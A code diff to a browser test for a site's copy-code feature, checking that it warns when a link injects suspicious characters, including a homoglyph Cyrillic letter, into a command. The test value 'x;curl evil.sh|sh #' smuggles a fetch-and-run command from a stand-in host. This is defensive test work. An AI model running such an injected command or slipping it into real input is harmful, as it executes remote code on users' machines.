@@ -14,7 +14,7 @@ const site = await startSite([
 ])
 const DUMP = `${site.url}/projects/commander/commands/dump`
 
-const HOSTILE = 'x;curl evil.sh|sh #'
+const HOSTILE = 'x;curl evil.sh|sh #х'
 const HOSTILE_LINK = `${DUMP}#host=${encodeURIComponent(HOSTILE)}`
 
 // Slightly longer than the time for which a second press is ignored.
@@ -32,7 +32,10 @@ describe('copying code that a link filled in', () => {
 
     await copyButton.dblclick()
     const warning = cardsOn(page).getByRole('alert')
-    assert.match((await warning.textContent()) ?? '', /The link filled in “;”, a space, “\|”, and “#”\./)
+    assert.match(
+      (await warning.textContent()) ?? '',
+      /The link filled in “;”, a space, “\|”, “#”, and “х” \(U\+0445\)\./,
+    )
     assert.equal(await warning.getByRole('definition').textContent(), HOSTILE)
     assert.match((await descriptionOf(cardsOn(page))).join(' | '), /The link filled in/)
     await eventually(() => clipboardText(page), 'mine')
